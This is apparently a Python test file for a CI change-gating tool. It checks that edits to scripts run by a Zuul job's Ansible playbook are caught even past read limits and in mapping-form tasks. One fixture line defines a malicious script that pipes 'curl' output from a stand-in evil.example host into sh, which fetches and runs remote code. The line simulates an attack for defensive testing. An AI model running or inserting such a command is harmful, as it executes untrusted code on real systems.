"""Docs review 54: what a Zuul job's playbook runs, past the reader's bounds and in the script module's mapping form.

Past the bounds (a playbook or an included task file longer than is read, more included files than are read), every
YAML file and everything under `playbooks/` and `roles/` counted as run, but a script the playbook runs by a path
outside them (`script: ../tools/setup.sh`) stayed `src` and its edit was allowed with --tree (exit 0 on integ
894a6f7); so was a script named in the module's mapping form (`script: {cmd: ...}`) and a file `copy` or `template`
puts on the node (`src:`). Past the bounds every file of the tree counts now (docs/classification.md says why).

Every variant is one real repository, git's own patch and the CLI's packet, gated by the default policy with --tree.
"""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from tables import each_case

ZUUL = "- job:\n    name: deploy\n    run: playbooks/deploy.yaml\n"
PAD = ("# " + "p" * 98 + "\n") * 11000  # past the 1 MiB read
RUNS = "    - script: ../tools/setup.sh\n"
INCLUDES = "".join(f"    - include_tasks: ../lib/t{i}.yml\n" for i in range(300))
BOUNDS = {  # name: the files of the base tree besides the Zuul file and the script
    "long-playbook": {"playbooks/deploy.yaml": "- hosts: all\n  tasks:\n" + PAD + RUNS},
    "long-task-file": {"playbooks/deploy.yaml": "- hosts: all\n  tasks:\n    - include_tasks: ../lib/big.yml\n",
                       "lib/big.yml": "- debug: {msg: ok}\n" + PAD + RUNS.strip() + "\n"},
    "many-includes": {"playbooks/deploy.yaml": "- hosts: all\n  tasks:\n" + INCLUDES + RUNS,
                      **{f"lib/t{i}.yml": "- debug: {msg: ok}\n" for i in range(300)}},
}
FORMS = {  # name: (the playbook's tasks, the file the change edits)
    "script-cmd": ("    - script:\n        cmd: ../tools/setup.sh\n", "tools/setup.sh"),
    "script-cmd-args": ("    - ansible.builtin.script:\n        cmd: ../tools/setup.sh --flag\n", "tools/setup.sh"),
    "copy-src": ("    - copy:\n        src: ../tools/setup.sh\n        dest: /tmp/s.sh\n", "tools/setup.sh"),
    "template-src": ("    - template:\n        src: run.sh.j2\n        dest: /tmp/r.sh\n",
                     "playbooks/templates/run.sh.j2"),
}
SCRIPT, EVIL = "#!/bin/sh\necho ok\n", "#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n"


@each_case("bound, target", [(bound, target) for bound in BOUNDS for target in ["tools/setup.sh", "docs/notes.txt"]])
def test_past_the_bounds_every_file_counts(tmp_path: Path, bound: str, target: str) -> None:
    case = committed(tmp_path, {".zuul.yaml": ZUUL, "tools/setup.sh": SCRIPT, "docs/notes.txt": "a\n",
                                **BOUNDS[bound]}, {target: EVIL})
    code, named = gated_rules(case, True)
    assert code == 3 and target in named.get("core.ci", []), named  # before: src, exit 0


@each_case("form", FORMS)
def test_the_mapping_forms_name_the_file(tmp_path: Path, form: str) -> None:
    tasks, edited = FORMS[form]
    base = {".zuul.yaml": ZUUL, "playbooks/deploy.yaml": "- hosts: all\n  tasks:\n" + tasks, edited: SCRIPT,
            "tools/other.sh": SCRIPT}
    case = committed(tmp_path, base, {edited: EVIL})
    code, named = gated_rules(case, True)
    assert code == 3 and edited in named.get("core.ci", []), named  # before: src, exit 0


def test_a_script_no_playbook_names_keeps_its_class(tmp_path: Path) -> None:
    base = {".zuul.yaml": ZUUL, "playbooks/deploy.yaml": "- hosts: all\n  tasks:\n" + FORMS["script-cmd"][0],
            "tools/setup.sh": SCRIPT, "tools/other.sh": SCRIPT}
    case = committed(tmp_path, base, {"tools/other.sh": EVIL})
    assert gated_rules(case, True) == (0, {})
